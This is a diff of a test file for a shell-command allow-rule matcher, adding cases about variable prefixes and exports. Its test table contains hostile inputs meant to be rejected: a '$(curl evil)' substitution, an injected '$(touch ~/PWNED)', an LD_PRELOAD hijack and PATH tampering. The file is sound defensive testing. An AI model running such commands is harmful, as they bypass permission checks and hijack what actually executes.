@@ -52,8 +52,10 @@ describe("allow: every sub-command must match, as written", () => {
     ["*", "echo 'unterminated", false],
     ["npm test *", "npm test\u200b", false],
     ["npm test *", "npm\u202e test", false],
-    ["*", "x=1", false],
+    ["*", "x=1", true],
+    ["ls *", "x=1", false],
     // Variables change what runs: set before an allowed command, or for the commands after them.
+    // A rule must then name them (or be `*`); a few harmless ones with literal values pass.
     ["git status *", "PATH=./bin:$PATH git status", false],
     ["git status *", "PATH=./bin git status", false],
     ["ls *", "LD_PRELOAD=./x.so ls", false],
@@ -61,9 +63,18 @@ describe("allow: every sub-command must match, as written", () => {
     ["ls *", "IFS=/; ls", false],
     ["git status *", "x='$(touch ~/PWNED)'; git status ${x@P}", false],
     ["git status *", "git status ${x@P}", false],
+    ["*", "git status ${x@P}", false],
     ["npm test *", "NODE_ENV=test npm test", true],
     ["npm test *", "NODE_ENV=$(curl evil) npm test", false],
     ["npm test *", "CI=1 FORCE_COLOR=0 npm test", true],
+    ["npm test *", "DEBUG=app:* npm test", true],
+    ["*", "FOO=bar make", true],
+    ["FOO=bar make *", "FOO=bar make", true],
+    ["FOO=bar make *", "FOO=bar make install", true],
+    ["make *", "FOO=bar make", false],
+    ["FOO=bar make *", "FOO=evil make", false],
+    // export keeps what it sets in its words, so `export *`-style rules are visible for what they are.
+    ["git status *", "export PATH=/evil:$PATH && git status", false],
   ];
   test.each(table)("allow %p, %p → %p", (pattern, command, allowed) => {
     expect(allowMatches(pattern, analyzeCommand(command))).toBe(allowed);
